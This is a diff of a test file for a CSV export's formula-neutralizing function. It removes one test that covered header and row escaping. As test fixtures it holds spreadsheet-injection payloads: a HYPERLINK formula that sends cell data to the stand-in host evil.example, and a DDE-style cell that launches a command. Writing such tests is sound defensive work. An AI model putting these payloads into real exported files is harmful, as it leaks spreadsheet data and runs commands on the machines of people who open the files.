@@ -1,5 +1,5 @@
 import test from 'ava';
-import { neutralizeFormula, toCsv } from '../../src/tabular/csv-export.ts';
+import { neutralizeFormula } from '../../src/tabular/csv-export.ts';
 
 test('a cell a spreadsheet would run as a formula is written as text', (t) => {
   for (const cell of ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)', '\tx', '\rx']) {
@@ -9,9 +9,4 @@ test('a cell a spreadsheet would run as a formula is written as text', (t) => {
 
 test('numbers keep their sign and ordinary text is left alone', (t) => {
   for (const cell of ['-12', '+3.5', '-1e-3', '.5', 'a=b', 'hello', '']) t.is(neutralizeFormula(cell), cell);
-});
-
-test('the console CSV neutralizes formula cells in the header and the rows, quoting as RFC 4180 says', (t) => {
-  const csv = toCsv(['=a', 'n'], [{ '=a': '=HYPERLINK("http://evil.example/?"&A1,"x")', n: -5 }]);
-  t.is(csv, `'=a,n\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-5\r\n`);
 });
